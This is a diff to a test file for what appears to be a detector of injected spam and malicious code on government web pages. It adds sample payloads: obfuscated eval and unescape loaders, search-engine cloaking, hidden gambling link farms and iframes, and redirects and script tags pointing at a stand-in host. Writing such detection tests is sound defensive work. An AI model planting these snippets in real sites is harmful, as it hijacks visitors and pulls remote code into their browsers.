@@ -63,6 +63,9 @@ def test_no_leave_prompt(facts_of, html):
     assert facts_of(f"<body>{html}")("leave_prompt") is False
 
 
+WRITTEN = "<script src='http://www.x88y.com/k.js'></script>"
+CODES = ",".join(str(ord(character)) for character in WRITTEN)
+ESCAPED = "".join(f"%{ord(character):02X}" for character in WRITTEN)
 FARM = "".join(f"<a href='https://www.shop{i}.com/'>商城{i}</a>" for i in range(9))
 GOV = "".join(f"<a href='http://www.town{i}.gov.cn/'>某镇{i}</a>" for i in range(20))
 
@@ -79,6 +82,16 @@ GOV = "".join(f"<a href='http://www.town{i}.gov.cn/'>某镇{i}</a>" for i in ran
         ("<script>if(/baidu|sogou|so\\.com/i.test(document.referrer)){location.href='http://www.x88y.com/'}</script>", "cloaking"),
         ("<script>window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"]['\\x77\\x72\\x69\\x74\\x65']('a')</script>", "obfuscated-script"),
         ("<html><body>a</body></html><script src='https://www.x88y.com/k.js'></script>", "foreign-script"),
+        (f"<style>.x{{position:absolute;left:-9999px}}</style><div class=x>{FARM}</div>", "hidden-links"),
+        ("<div style='display:none'><a href='http://www.x88y.com/a/1.html'>真人娱乐</a></div>", "gambling-links"),
+        ("".join(f"<a href='http://www.x{i}y.com/p/{i}.html'>时时彩平台</a>" for i in range(3)), "gambling-links"),
+        ("<script>if(/Baiduspider|Googlebot/i.test(navigator.userAgent)){document.write('<iframe src=\"http://www.x88y.com/\">')}</script>", "cloaking"),
+        (f"<script>eval(String.fromCharCode({CODES}))</script>", "obfuscated-script"),
+        (f"<script>document.write(unescape('{ESCAPED}'))</script>", "obfuscated-script"),
+        ("<script>window.location.href='http://www.x88y.com/';</script>", "foreign-redirect"),
+        ("<meta http-equiv=refresh content='0; url=http://www.x88y.com/'>", "foreign-redirect"),
+        ("<script src='https://a.x88y.icu/k.js'></script>", "foreign-script"),
+        ("<title>百家乐_时时彩</title><iframe style='display:none' src='http://www.x88y.com/'></iframe>", "hidden-frame"),
     ],
 )  # fmt: skip
 def test_injections(page_of, html, kind):
@@ -101,6 +114,19 @@ def test_injections(page_of, html, kind):
         "<title>关于打击百家乐赌博的通告</title>",
         "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
         "<script src='https://zfwzgl.www.gov.cn/exposure/jiucuo.js'></script><script src=//dcs.conac.cn/a.js></script>",
+        "<a href='http://www.paper.com/2026/1.html'>警方捣毁特大网络赌场</a>",
+        "<a href='http://www.paper.com/'>打击时时彩专项行动</a>",
+        "<a href='http://www.paper.com/2026/1.html'>葡京旧事</a>",
+        "<title>关于打击百家乐、时时彩赌博的通告</title>",
+        "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://www.x88y.com/'}</script>",
+        "<script>if(/baidu/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
+        "<script>document.write(unescape('%3Cscript src=%22http://hm.baidu.com/h.js%22%3E%3C/script%3E'))</script>",
+        "<script>window.location.href='http://www.new.gov.cn/';</script>",
+        "<script>function go(){window.location.href='http://www.x88y.com/';}</script>",
+        "<meta http-equiv=refresh content='0; url=/zwgk/'>",
+        "<meta http-equiv=refresh content='0; url=http://www.new.gov.cn/'>",
+        f"<style>.x{{display:none}}</style><div class=x>{FARM}</div>",
+        "<script>String.fromCharCode(104,101,108,108,111)</script>",
         "<head><script src='https://cdn.vendor-analytics.com/a.js'></script></head>",
         "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"))</script>",
         "<iframe width=0 height=0 src='https://sso.vendor.com/'></iframe>",
